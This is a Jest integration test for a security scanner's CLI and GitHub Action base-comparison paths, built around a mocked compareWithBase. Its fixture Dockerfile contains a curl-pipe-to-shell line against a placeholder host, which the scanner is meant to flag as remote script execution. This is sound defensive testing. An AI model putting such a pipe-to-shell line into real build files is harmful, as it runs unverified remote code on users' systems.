import { afterAll, describe, expect, it, jest } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Finding } from '../../../src/core/index.js';
import type { BaseComparison, compareWithBase as Real } from '../../../src/scan/base/compare.js';

/**
 * The CLI's `--base` and the action's `report: new` must be one comparison, not two that drift.
 * compareWithBase is replaced by a recorder that answers with one marked finding; both shells
 * must call it (with the same changes for the same repository) and report exactly its answer.
 */
const MARKED: Finding = {
  ruleId: 'dockerfile/remote-script-exec',
  severity: 'critical',
  message: 'marked by the fake comparison',
  path: 'Dockerfile',
  startLine: 2,
  startColumn: 5,
  endLine: 2,
  endColumn: 6,
  fingerprint: 'f'.repeat(16),
};
const calls: Parameters<typeof Real>[] = [];
jest.unstable_mockModule('../../../src/scan/base/compare.js', () => ({
  compareWithBase: async (...args: Parameters<typeof Real>): Promise<BaseComparison> => {
    calls.push(args);
    const [head, opts] = args;
    return {
      reported: [MARKED],
      existing: [...head],
      base: opts.changes.base,
      changed: new Set(opts.changes.files.map((f) => f.path)),
      read: 0,
    };
  },
}));
const { main } = await import('../../../src/cli/main.js');
const { run } = await import('../../../src/main.js');

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

function git(cwd: string, ...args: string[]): string {
  return execFileSync(
    'git',
    ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'commit.gpgsign=false', ...args],
    {
      cwd,
      encoding: 'utf8',
    },
  ).trim();
}

describe('one base comparison for the CLI and the action', () => {
  it('both call compareWithBase with the same changes and report what it returns', async () => {
    const root = mkdtempSync(join(tmpdir(), 'bulkhead-compare-'));
    dirs.push(root);
    git(root, 'init', '-q');
    writeFileSync(join(root, 'Dockerfile'), 'FROM alpine\n');
    git(root, 'add', '-A');
    git(root, 'commit', '-qm', 'base');
    const base = git(root, 'rev-parse', 'HEAD');
    writeFileSync(join(root, 'Dockerfile'), 'FROM alpine\nRUN curl https://x.example/i.sh | sh\n');
    git(root, 'commit', '-qam', 'head');
    const head = git(root, 'rev-parse', 'HEAD');

    let stdout = '';
    let stderr = '';
    const code = await main(['scan', '.', '--base', base, '--format', 'json', '--fail-on', 'never'], {
      stdout: (s) => (stdout += s),
      stderr: (s) => (stderr += s),
      isTTY: false,
      env: {},
      cwd: root,
    });
    expect(code).toBe(0);
    expect((JSON.parse(stdout) as { findings: Finding[] }).findings.map((f) => f.message)).toEqual([
      MARKED.message,
    ]);
    expect(stderr).toContain(
      `Compared with ${base} (merge base ${base.slice(0, 12)}, 1 changed file): 1 new,`,
    );

    const out = join(root, '.git', 'action-output');
    const event = join(root, '.git', 'event.json');
    writeFileSync(out, '');
    writeFileSync(
      event,
      JSON.stringify({
        pull_request: {
          number: 1,
          base: { sha: base, repo: { full_name: 'o/r' } },
          head: { sha: head, repo: { full_name: 'o/r' } },
        },
      }),
    );
    const env = {
      GITHUB_WORKSPACE: root,
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: event,
      GITHUB_REPOSITORY: 'o/r',
      GITHUB_SHA: head,
      GITHUB_OUTPUT: out,
      'INPUT_FAIL-ON': 'never',
      'INPUT_CHECK-RUN': 'false',
      'INPUT_JOB-SUMMARY': 'false',
      INPUT_ANNOTATIONS: 'false',
    };
    const saved = { ...process.env };
    const exitCode = process.exitCode;
    Object.assign(process.env, env);
    const write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
    try {
      await run();
    } finally {
      write.mockRestore();
      for (const k of Object.keys(env)) delete process.env[k];
      Object.assign(process.env, saved);
      process.exitCode = exitCode;
    }
    expect(readFileSync(out, 'utf8')).toMatch(/^findings<<(.+)\n1\n\1$/m);

    expect(calls).toHaveLength(2);
    const [cli, action] = calls.map(([headFindings, opts]) => ({
      head: headFindings.map((f) => f.fingerprint),
      base: opts.changes.base,
      files: opts.changes.files,
      workspace: opts.workspace,
      scanPath: opts.scanPath,
    }));
    expect(cli).toEqual(action);
    expect(cli!.base).toBe(base);
    expect(cli!.files).toEqual([{ path: 'Dockerfile', status: 'modified' }]);
  });
});
